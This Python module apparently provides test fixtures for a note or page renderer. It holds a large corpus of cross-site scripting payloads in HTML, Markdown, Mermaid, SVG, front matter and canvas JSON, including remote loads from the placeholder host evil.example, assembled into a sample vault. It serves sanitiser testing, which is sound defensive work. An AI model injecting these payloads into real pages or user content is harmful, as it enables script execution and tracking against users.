"""Snippets that try to run something, or to fetch something, from a page of a source."""

from __future__ import annotations

_RUN = "window.pwned=1"
_AWAY = "https://evil.example/x"

_HTML = [
    "<script>{run}</script>",
    "<SCRIPT SRC={away}.js></SCRIPT>",
    "<script type=module>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'",
    '<img src="{away}.png">',
    '<img srcset="{away}.png 2x" src="//evil.example/y.png">',
    '<img src="\\\\evil.example\\y.png">',
    "<img src='data:image/svg+xml,<svg onload={run}>'>",
    "<svg onload={run}></svg>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src='javascript:{run}'></iframe></foreignObject></svg>",
    "<svg><use href='{away}.svg#x'></use></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
    "<math href='javascript:{run}'>x</math>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src={away}></iframe>",
    "<frameset onload={run}><frame src={away}></frameset>",
    "<object data='javascript:{run}'></object>",
    "<object data='{away}.pdf' type='application/pdf'></object>",
    "<object data='x.svg' type='image/svg+xml' onload={run}></object>",
    "<embed src='{away}.swf'>",
    "<applet code=x archive={away}></applet>",
    "<body onload={run}>",
    "<base href='{away}/'>",
    "<link rel=stylesheet href={away}.css>",
    "<link rel=prefetch href={away}>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<style>@import '{away}.css';</style>",
    "<style>body{{background:url({away}.png)}}</style>",
    "<div style='background:url({away}.png)'>x</div>",
    "<div style=\"width:expression({run})\">x</div>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<a href='java&#x09;script:{run}'>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<a href='\x01javascript:{run}'>x</a>",
    "<a href='vbscript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a href='x' ping='{away}'>x</a>",
    "<form action={away}><input name=q><button formaction='javascript:{run}'>x</button></form>",
    "<input autofocus onfocus={run}>",
    "<input type=image src={away}.png>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<keygen autofocus onfocus={run}>",
    "<video src={away}.mp4 autoplay></video>",
    "<video poster='{away}.png'></video>",
    "<video><source onerror={run} src=x></video>",
    "<audio src={away}.mp3 autoplay onerror={run}></audio>",
    "<audio controls ontimeupdate={run}><track src={away}.vtt default></audio>",
    "<details open ontoggle={run}>x</details>",
    "<marquee onstart={run}>x</marquee>",
    "<p onmouseover={run} onpointerenter={run} onanimationstart={run}>x</p>",
    "<table background='{away}.png'><tr><td background='{away}.png'>x</table>",
    "<isindex action='javascript:{run}' type=image>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<template><script>{run}</script></template>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<plaintext><img src=x onerror={run}>",
    "<title></title><script>{run}</script>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml-stylesheet href='{away}.css'?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "<portal src='{away}'></portal>",
    "<dialog open onclose={run}>x</dialog>",
    "<img name=body id=cookie src=x onerror={run}>",
    "<a id=lorepack href='javascript:{run}'></a>",
    "<div id=__drawer onclick={run}></div>",
    "<button popovertarget=x onclick={run}>x</button><div popover id=x onbeforetoggle={run}>y</div>",
    "<img src=`javascript:{run}`>",
    "<img src='x' style='list-style:url({away}.png)'>",
]  # fmt: skip

_MARKDOWN = [
    "[x](javascript:{run})",
    "[x](  javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    "![x](javascript:{run})",
    "![x]({away}.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)",
    '[x](a "onmouseover={run}")',
    '![x" onerror="{run}](x.png)',
    "[[x|<img src=x onerror={run}>]]",
    "![[x.png|<img src=x onerror={run}>]]",
    "[<img src=x onerror={run}>](https://example.org)",
    "<javascript:{run}>",
    "[ref]\n\n[ref]: javascript:{run}",
    "`<img src=x onerror={run}>`",
    "```html\"><img src=x onerror={run}>\nx\n```",
    "> [!note]- <img src=x onerror={run}>\n> <script>{run}</script>",
    "> [!\"><img src=x onerror={run}>] x\n> y",
    "$\\href{{javascript:{run}}}{{x}}$ $\\includegraphics{{{away}.png}}$",
    "$$\\htmlData{{x=y}}{{z}} \\url{{javascript:{run}}}$$",
    "[^n]\n\n[^n]: <img src=x onerror={run}>",
    "- [<img src=x onerror={run}>] task",
    "| <img src=x onerror={run}> |\n|---|\n| <script>{run}</script> |",
    "### <img src=x onerror={run}> `<img src=x onerror={run}>`",
    "#tag\"onmouseover={run}",
    "==<script>{run}</script>==",
]  # fmt: skip

_MERMAID = [
    'flowchart LR\n a["<img src=x onerror={run}>"] --> b',
    'flowchart LR\n a --> b\n click a "javascript:{run}"',
    'flowchart LR\n a --> b\n click a href "javascript:{run}" "tip"',
    "flowchart LR\n a --> b\n click a call eval(\"{run}\")",
    '%%{{init: {{"securityLevel": "loose", "htmlLabels": true}}}}%%\nflowchart LR\n a["<script>{run}</script>"]',
    '%%{{init: {{"themeCSS": "@import url({away}.css); * {{background:url({away}.png)}}"}}}}%%\nflowchart LR\n a-->b',
    "flowchart LR\n a --> b\n style a fill:url({away}.png)",
    'sequenceDiagram\n participant A as <img src=x onerror={run}>\n A->>A: <script>{run}</script>',
    "flowchart LR\n a --> b\n classDef c fill:url({away}.png),background:url({away}.png)\n class a c",
    'flowchart LR\n A@{{ img: "{away}.png", label: "x", pos: "t", w: 60, h: 60 }}\n A --> b',
    'flowchart LR\n A@{{ shape: rect, "img" : "{away}.png" }} --> b["<a href=javascript:{run}>x</a>"]',
    '%%{{init: {{"flowchart": {{"htmlLabels": true}}}}}}%%\nflowchart LR\n a["<img src={away}.png>"]',
    "classDiagram\n class A~T~ {{\n  <script>{run}</script>\n }}",
    "pie title <img src=x onerror={run}>\n \"<img src=x onerror={run}>\" : 3",
    "mindmap\n root((<img src=x onerror={run}>))\n  ::icon(x\" onload={run})",
    "not a diagram <img src=x onerror={run}>",
]  # fmt: skip

SNIPPETS = [
    snippet.format(run=_RUN, away=_AWAY)
    for snippet in (
        *_HTML,
        *_MARKDOWN,
        *(f"```mermaid\n{diagram}\n```" for diagram in _MERMAID),
    )
]

_TITLE = "<img src=x onerror=window.pwned=1>"

SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'onload="{_RUN}"><script>{_RUN}</script><a href="javascript:{_RUN}"><text y="20">x</text></a>'
    f'<image href="{_AWAY}.png"/><style>@import "{_AWAY}.css"; rect{{fill:url({_AWAY}.png)}}</style>'
    f'<set attributeName="href" to="javascript:{_RUN}"/><use xlink:href="{_AWAY}.svg#a"/>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{_AWAY}"/></foreignObject>'
    f'<rect width="10" height="10" onclick="{_RUN}" style="fill:url({_AWAY}.png)"/></svg>'
)

VAULT: dict[str, str | bytes] = {
    "Snippets.md": "# Snippets\n\n" + "\n\n".join(f"{n}: \n\n{s}" for n, s in enumerate(SNIPPETS)),
    "Front.md": f"---\ntitle: '{_TITLE}'\ntags: ['a\"onmouseover={_RUN}', '{_TITLE}']\n"
    f"aliases: ['{_TITLE}']\nlifecycle: '{_TITLE}'\ncreated: '{_TITLE}'\nupdated: '\"><script>'\n"
    f"description: '</script><script>{_RUN}</script>'\nlang: 'en\" onload={_RUN} x=\"'\n---\n"
    f"## `{_TITLE}`\n\nText. [[Snippets|{_TITLE}]] ![[bad.svg]] [page](page.html) [code](run.js)\n",
    f"Names {_TITLE.replace('/', '')}.md": "[[Front]] and [[Snippets]]\n",
    "Board.canvas": '{"nodes": [{"id": "a", "type": "text", "x": 0, "y": 0, "width": 300, "height": '
    f'90, "color": "\\"><script>", "text": "{_TITLE} <script>{_RUN}</script>"}}, {{"id": "b", "type": '
    f'"link", "url": "javascript:{_RUN}", "x": 0, "y": 200, "width": 300, "height": 60}}, {{"id": "c", '
    '"type": "file", "file": "Front.md", "x": 400, "y": 0, "width": 100, "height": 60}], "edges": '
    f'[{{"fromNode": "a", "toNode": "c", "label": "{_TITLE}"}}]}}',
    "bad.svg": SVG,
    "page.html": f"<script>{_RUN}</script>",
    "run.js": _RUN,
}
